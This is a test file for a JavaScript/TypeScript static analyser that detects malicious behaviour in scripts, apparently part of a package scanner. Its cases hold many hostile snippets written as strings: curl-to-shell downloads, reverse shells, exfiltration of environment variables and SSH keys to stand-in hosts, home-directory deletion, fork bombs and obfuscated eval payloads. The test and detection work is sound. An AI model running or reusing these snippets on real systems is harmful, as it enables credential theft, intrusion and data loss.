// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the cases are JavaScript source, where ${…} is template syntax
import { beforeAll, describe, expect, it } from 'vitest';
import type { Fact, Unit } from '../../facts.js';
import { type Grammar, loadGrammar } from '../../load-grammars.js';
import { shellFacts } from '../index.js';
import { javascriptExtractor } from './extract-javascript-facts.js';

/** Documentation addresses (RFC 5737) and example domains: nothing here is ever run. */
const HOST = '203.0.113.9';
const b64 = (text: string): string => Buffer.from(text).toString('base64');

type Partial = Record<string, unknown>;
const proc = (program: string, extra: Partial = {}): Partial => ({ kind: 'process', program, ...extra });
const net = (op: string, extra: Partial = {}): Partial => ({ kind: 'network', op, ...extra });
const file = (op: string, path: string, extra: Partial = {}): Partial => ({
  kind: 'file',
  op,
  path,
  ...extra,
});
const exec = (api: string, extra: Partial = {}): Partial => ({ kind: 'exec', api, ...extra });
const env = (op: 'dump' | 'read', extra: Partial = {}): Partial => ({ kind: 'env', op, ...extra });
const loop = (extra: Partial): Partial => ({ kind: 'loop', ...extra });

/** [description, source, facts that must be there, facts that must not]. */
type Case = [string, string, Partial[], Partial[]?];

let js: Grammar;
let ts: Grammar;
let sh: Grammar;
beforeAll(async () => {
  [js, ts, sh] = await Promise.all([
    loadGrammar('javascript'),
    loadGrammar('typescript'),
    loadGrammar('shell'),
  ]);
});

function extract(text: string, language: 'javascript' | 'typescript' = 'javascript'): Fact[] {
  const file = language === 'javascript' ? 'scripts/x.js' : 'scripts/x.ts';
  const unit: Unit = { file, inPackage: file, language, surface: 'script', text, firstLine: 1 };
  return javascriptExtractor.extract(unit, language === 'javascript' ? js : ts, {
    shell: (command, line, taint) => shellFacts(unit, command, line, taint, sh),
  });
}

function check(source: string, present: Partial[], absent: Partial[] = []): void {
  const facts = extract(source);
  const shown = JSON.stringify(facts.map((f) => ({ ...f, text: undefined })));
  for (const p of present)
    expect(facts, `${JSON.stringify(p)} in ${shown}`).toContainEqual(expect.objectContaining(p));
  for (const a of absent)
    expect(facts, `absent ${JSON.stringify(a)} in ${shown}`).not.toContainEqual(expect.objectContaining(a));
}

const CASES: Record<string, Case[]> = {
  'modules resolved the way Node resolves them': [
    [
      'destructured and renamed',
      `const { execSync: run } = require('child_process');\nrun('curl -s http://${HOST}/i | sh');`,
      [net('fetch', { target: `http://${HOST}/i` }), proc('sh', { stdin: ['network'] })],
    ],
    [
      'namespace and default imports',
      `import * as cp from 'node:child_process';\nimport https from 'node:https';\ncp.spawn('ls');\nhttps.get('https://x.example/a');`,
      [proc('ls'), net('fetch', { target: 'https://x.example/a' })],
    ],
    [
      'require in pieces is a name spelled to dodge review',
      `require('child_' + 'process').execSync(process.argv[2]);`,
      [exec('child_process.execSync', { obfuscated: 'split' })],
    ],
    [
      'process.mainModule.require and dynamic import',
      `process.mainModule.require('child_process').exec('id');\nconst m = await import('node:child_process');\nm.execSync('whoami');`,
      [proc('id'), proc('whoami')],
    ],
    [
      'a table read through a helper hides the module',
      `const t = ['child_process', 'exec'];\nconst d = (i) => t[i];\nrequire(d(0))[d(1)]('uname');`,
      [exec('child_process.exec', { obfuscated: 'decoded' }), proc('uname')],
    ],
  ],
  'code evaluated at run time': [
    [
      'eval of base64 reads the decoded code too',
      `eval(Buffer.from('${b64("require('child_process').exec('curl -s http://203.0.113.9/x | sh')")}', 'base64').toString());`,
      [exec('eval', { input: ['decoded'] }), proc('sh', { stdin: ['network'] })],
    ],
    [
      'atob, fromCharCode lists, reversed strings and percent escapes are decoders',
      `(0, eval)(atob('${b64('1')}'));\neval(String.fromCharCode(49, 50));\nnew Function('1+'.split('').reverse().join(''))();\neval(unescape('%31%32%33%34'));`,
      [
        exec('eval', { input: ['decoded'], line: 1 }),
        exec('eval', { input: ['decoded'], line: 2 }),
        exec('Function', { input: ['decoded'], line: 3 }),
        exec('eval', { input: ['decoded'], line: 4 }),
      ],
    ],
    [
      'a download evaluated through a promise chain',
      `fetch('https://cdn.example.com/x.js').then((r) => r.text()).then((code) => require('vm').runInThisContext(code));`,
      [exec('vm.runInThisContext', { input: ['network'] })],
    ],
    [
      'a response gathered in data events and evaluated on end',
      `require('https').get('https://x.example/r.js', (res) => {\n  let body = '';\n  res.on('data', (c) => { body += c; });\n  res.on('end', () => eval(body));\n});`,
      [exec('eval', { input: ['network'] })],
    ],
    [
      'eval reached through globalThis and a reversed name',
      `globalThis['lave'.split('').reverse().join('')](process.argv[2]);`,
      [exec('eval', { obfuscated: 'decoded' })],
    ],
    [
      'literal code keeps its text; a string timer is evaluation',
      `new Function('a', 'b', 'return a + b');\nsetTimeout('tick()', 10);`,
      [exec('Function', { code: 'return a + b', input: [] }), exec('setTimeout', { code: 'tick()' })],
    ],
    [
      'a command line built at run time is a shell exec',
      `const { exec } = require('child_process');\nconst f = process.argv[2];\nexec(\`jq length \${f}\`);`,
      [exec('shell', { input: [] }), proc('jq')],
    ],
    [
      'hex escapes that spell a command are decoded text',
      `require('child_process').execSync('\\x63\\x75\\x72\\x6c -s http://${HOST}/a | sh');`,
      [exec('shell', { input: ['decoded'] }), proc('sh', { stdin: ['network'] })],
    ],
    [
      'a command line finished with += and gated by !',
      `let c = 'curl -s http://${HOST}/i';\nc += ' | sh';\nif (!process.env.CI) require('child_process').execSync(c);`,
      [exec('shell'), proc('sh', { stdin: ['network'] })],
    ],
    [
      'a for…of over a list of commands runs each item, a for…in over the environment dumps it',
      `const cp = require('child_process');\nfor (const c of ['id', 'uname -a']) cp.execSync(c);\nconst e = {};\nfor (const k in process.env) e[k] = 1;`,
      [proc('id'), proc('uname'), env('dump', { line: 4 })],
      [env('dump', { line: 2 })],
    ],
    [
      'a downloaded module written and required runs the download',
      `const { data } = await require('axios').get('https://p.example.com/m.js');\nrequire('fs').writeFileSync('/tmp/m.js', data);\nrequire('/tmp/m.js');`,
      [file('write', '/tmp/m.js', { content: ['network'] }), exec('require', { input: ['network'] })],
    ],
    [
      'node-serialize of a response',
      `const s = require('node-serialize');\nconst r = await fetch('https://x.example/o');\ns.unserialize(await r.text());`,
      [{ kind: 'deserialize', api: 'node-serialize.unserialize', input: ['network'] }],
    ],
  ],
  'network and what it carries': [
    [
      'fetch reads, a POST with the environment sends it',
      `fetch('https://x.example/a');\nfetch('https://x.example/b', { method: 'POST', body: JSON.stringify(process.env) });`,
      [
        net('fetch', { target: 'https://x.example/a', sends: [] }),
        net('send', { target: 'https://x.example/b', sends: ['environment'] }),
        env('dump'),
      ],
    ],
    [
      'a token as the credential of its own API',
      `fetch('https://api.github.com/user', { headers: { Authorization: \`Bearer \${process.env.GITHUB_TOKEN}\` } });`,
      [net('fetch', { sends: ['secret'], authHeader: true }), env('read', { name: 'GITHUB_TOKEN' })],
    ],
    [
      'a key in the query parameter its API reads it from',
      `const city = process.argv[2];\nfetch(\`https://api.weather.example/v1?city=\${city}&key=\${process.env.WEATHER_API_KEY}\`);`,
      [net('fetch', { sends: ['secret'], authHeader: true })],
    ],
    [
      'environment in a query string',
      `import * as h from 'node:https';\nconst q = encodeURIComponent(JSON.stringify(process.env));\nh.get('https://f.example.com/p?d=' + q);`,
      [net('fetch', { sends: ['environment'] })],
    ],
    [
      'a request written after it is opened',
      `const req = require('https').request({ host: 'x.example', method: 'POST', path: '/k' });\nreq.end(require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'));`,
      [
        file('read', '~/.ssh/id_rsa', { content: ['sensitive-file'] }),
        net('send', { target: 'https://x.example/k', sends: ['sensitive-file'] }),
      ],
    ],
    [
      'sockets, datagrams, DNS names and WebSockets',
      `const s = require('net').connect(443, 'c.example.org');\ns.write(process.env.AWS_SECRET_ACCESS_KEY);\nrequire('dns').lookup(Buffer.from(process.env.API_TOKEN).toString('hex') + '.x.example', () => {});\nconst ws = new WebSocket('wss://t.example.com');\nws.on('open', () => ws.send(JSON.stringify({ ...process.env })));`,
      [
        net('connect', { target: 'c.example.org:443' }),
        net('send', { target: 'c.example.org:443', sends: ['secret'] }),
        net('resolve', { sends: ['secret'] }),
        net('send', { target: 'wss://t.example.com', sends: ['environment'] }),
      ],
    ],
    [
      'an XMLHttpRequest opened and sent',
      `const x = new XMLHttpRequest();\nx.open('POST', 'https://c.example.com/u');\nx.send(JSON.stringify(process.env));`,
      [net('send', { target: 'https://c.example.com/u', sends: ['environment'], line: 2 })],
    ],
    [
      'the environment copied key by key and by a helper',
      `const snap = {};\nfor (const k in process.env) snap[k] = process.env[k];\nfunction post(d) { return fetch('https://h.example.net', { method: 'POST', body: d }); }\npost(JSON.stringify(snap));`,
      [env('dump', { line: 2 }), net('send', { sends: ['environment'] })],
    ],
    [
      'cloud metadata from an options object',
      `require('http').get({ host: '169.254.169.254', path: '/latest/meta-data/iam/security-credentials/' }, (r) => r.pipe(process.stdout));`,
      [net('fetch', { target: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })],
    ],
  ],
  'files, paths and the home directory': [
    [
      'paths joined from homedir, pieces and lists',
      `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst p = [os.homedir(), '.ss' + 'h', 'id_ed' + '25519'].join(path.sep);\nfs.readFileSync(p);\n['.kube', '.docker'].forEach((d) => fs.readFileSync(path.join(os.homedir(), d, 'config')));`,
      [
        file('read', '~/.ssh/id_ed25519', { content: ['sensitive-file'] }),
        file('read', '~/.kube/config', { content: ['sensitive-file'] }),
        file('read', '~/.docker/config'),
      ],
    ],
    [
      'home removed through a helper, a forEach and an object of targets',
      `import { rm } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nconst home = () => homedir();\nawait rm(home(), { recursive: true });\nconst fs = require('fs');\nfs.readdirSync(process.env.HOME).forEach((e) => fs.rmSync(require('path').join(process.env.HOME, e), { recursive: true }));\nfor (const t of Object.values({ a: '/tmp/c', b: homedir() })) require('fs-extra').removeSync(t);`,
      [
        file('delete', '~', { recursive: true, line: 4 }),
        file('delete', '~/*', { recursive: true, line: 6 }),
        file('delete', '~', { recursive: true, line: 7 }),
        file('delete', '/tmp/c', { recursive: true, line: 7 }),
      ],
    ],
    [
      'persistence writes carry their content',
      `const fs = require('fs');\nconst rc = require('path').join(require('os').homedir(), '.bashrc');\nfs.appendFileSync(rc, 'curl -s http://${HOST}/p | sh\\n');\nfs.chmodSync('/usr/local/bin/t', 0o777);`,
      [
        file('append', '~/.bashrc', { contentText: `curl -s http://${HOST}/p | sh\n` }),
        file('chmod', '/usr/local/bin/t', { mode: '777' }),
      ],
    ],
    [
      'a download piped into a file and run',
      `const fs = require('fs');\nrequire('https').get('https://x.example/s.sh', (res) => {\n  const out = fs.createWriteStream('/tmp/s.sh');\n  res.pipe(out);\n  out.on('finish', () => require('child_process').execFileSync('bash', ['/tmp/s.sh']));\n});`,
      [file('write', '/tmp/s.sh', { content: ['network'] }), proc('bash', { runsFile: '/tmp/s.sh' })],
    ],
  ],
  'processes, sockets and loops': [
    [
      'a socket piped into a shell and back is a reverse shell',
      `const { createConnection: cc } = require('net');\nconst { spawn: run } = require('child_process');\nconst s = cc({ host: '${HOST}', port: 9001 });\nconst p = run('bash', ['-i']);\ns.pipe(p.stdin);\np.stdout.pipe(s);`,
      [net('connect', { target: `${HOST}:9001` }), proc('bash', { socketStdio: true })],
    ],
    [
      'a socket handed to a shell as its stdio',
      `const s = require('net').connect(4444, '${HOST}');\nrequire('child_process').spawn('/bin/sh', [], { stdio: [s, s, s] });`,
      [proc('sh', { socketStdio: true })],
    ],
    [
      'a datagram of the environment names its destination',
      `const d = require('dgram').createSocket('udp4');\nd.send(JSON.stringify(process.env), 53, '${HOST}');`,
      [net('send', { target: `${HOST}:53`, sends: ['environment'] })],
    ],
    [
      'a socket created first and connected later',
      `const n = require('net');\nconst c = new n.Socket();\nc.connect(4444, '${HOST}', () => {\n  const sh = require('child_process').spawn('/bin/sh', []);\n  c.pipe(sh.stdin);\n});`,
      [net('connect', { target: `${HOST}:4444`, line: 3 }), proc('sh', { socketStdio: true })],
    ],
    [
      'argv with a shell option and a program list',
      `const cp = require('child_process');\ncp.spawn('sh', ['-c', 'curl http://${HOST}/s | sh']);\ncp.spawnSync('rm', ['-rf', require('os').homedir()]);`,
      [proc('sh', { stdin: ['network'] }), file('delete', '~', { recursive: true })],
    ],
    [
      'self copies without end are fork bombs',
      `const { fork, spawn } = require('child_process');\nwhile (true) { fork(__filename); }\nsetInterval(() => spawn(process.execPath, [__filename]), 10);\nfor (let i = 0; i < 2; i++) spawn(process.execPath, [__filename], { detached: true });`,
      [
        loop({ endless: true, forks: true, line: 2 }),
        loop({ endless: true, forks: true, line: 3 }),
        loop({ endless: false, forks: true, iterations: 2, line: 4 }),
        proc('node', { runsSelf: true, background: true, line: 4 }),
      ],
    ],
  ],
};

const BENIGN: Case[] = [
  [
    'environment handed to a child is not read',
    `require('child_process').spawn('npm', ['test'], { env: { ...process.env, CI: '1' }, stdio: 'inherit' });`,
    [proc('npm')],
    [env('dump')],
  ],
  [
    'a key checked for presence is not a dump',
    `for (const k of ['API_URL']) if (!(k in process.env)) console.log(k);`,
    [],
    [env('dump'), { kind: 'network' }],
  ],
  [
    'a worker started once with its own argument is not a replica',
    `const { fork } = require('child_process');\nif (process.argv[2] !== 'worker') fork(__filename, ['worker']);`,
    [proc('node', { runsSelf: true })],
    [{ kind: 'loop' }, { inEndlessLoop: true }],
  ],
  [
    'one character code and ANSI escapes are not disguises',
    `const A = String.fromCharCode(65);\nconst RED = '\\x1b[31m';\nrequire('child_process').exec(process.env.EDITOR + A + RED);`,
    [exec('shell', { input: [] })],
    [{ kind: 'exec', input: ['decoded'] }],
  ],
  [
    'fetching JSON and printing it evaluates nothing',
    `const r = await fetch('https://api.example.com/items');\nconsole.log(await r.json());`,
    [net('fetch')],
    [{ kind: 'exec' }],
  ],
  [
    'a repeating timer that writes a status file is a periodic job, not a flood',
    `setInterval(() => require('fs').writeFileSync('/tmp/status', String(Date.now())), 60000);`,
    [file('write', '/tmp/status')],
    [{ kind: 'loop' }],
  ],
  [
    'a cache folder under home is not home',
    `const p = require('path');\nrequire('fs').rmSync(p.join(require('os').homedir(), '.cache', 'tidy'), { recursive: true });`,
    [file('delete', '~/.cache/tidy', { recursive: true })],
    [file('delete', '~')],
  ],
];

describe('JavaScript facts', () => {
  for (const [group, cases] of Object.entries(CASES)) {
    describe(group, () => {
      it.each(cases)('%s', (_name, source, present, absent) => check(source, present, absent));
    });
  }
  describe('benign look-alikes', () => {
    it.each(BENIGN)('%s', (_name, source, present, absent) => check(source, present, absent));
  });

  it('reads TypeScript with its own grammar', () => {
    const facts = extract(
      `import { exec } from 'node:child_process';\nconst u: string = process.argv[2] ?? '';\nexec(\`curl -s \${u} | sh\` as string);\n`,
      'typescript',
    );
    expect(facts).toContainEqual(expect.objectContaining(proc('sh', { stdin: ['network'] })));
    expect(facts).toContainEqual(expect.objectContaining(exec('shell')));
  });
});

describe('hostile input', () => {
  it('survives nesting deeper than any real program', () => {
    const deep = `${'('.repeat(5000)}eval(x)${')'.repeat(5000)};\n${'['.repeat(3000)}${']'.repeat(3000)};\n`;
    expect(() => extract(deep)).not.toThrow();
  });

  it('reads a long minified line of concatenations', () => {
    const chain = Array.from({ length: 20_000 }, (_, i) => `'${i % 10}'`).join('+');
    const facts = extract(`var a=${chain};require('child_process').execSync('id');`);
    expect(facts).toContainEqual(expect.objectContaining(proc('id')));
  });

  it('bounds strings doubled in a loop and helpers that call themselves', () => {
    const source = `let s = 'a';\nfor (let i = 0; i < 100; i++) s = s + s;\nfunction f(x) { return f(x + x) + g(x); }\nfunction g(y) { return f(y); }\nf(s);\neval(s);\n`;
    const facts = extract(source);
    const evaluated = facts.find((f) => f.kind === 'exec');
    expect(evaluated?.kind === 'exec' && (evaluated.code?.length ?? 0) <= 65_536).toBe(true);
  });

  it('bounds code decoded from code decoded from code', () => {
    let code = 'eval(1)';
    for (let i = 0; i < 12; i++) code = `eval(atob('${b64(code)}'))`;
    const facts = extract(code);
    expect(facts.filter((f) => f.kind === 'exec').length).toBeLessThanOrEqual(5);
  });

  it('reads a function hidden behind more calls than the budget', () => {
    const padding = Array.from({ length: 400 }, (_, i) => `function p${i}() { return ${i}; }\np${i}();`).join(
      '\n',
    );
    check(`${padding}\nfunction late() { require('child_process').exec('uname -a'); }\nlate();\n`, [
      proc('uname'),
    ]);
  });

  it('keeps what it found before a syntax error', () => {
    check(`require('child_process').exec('ls');\nfunction (( {{{ ;`, [proc('ls')]);
  });
});
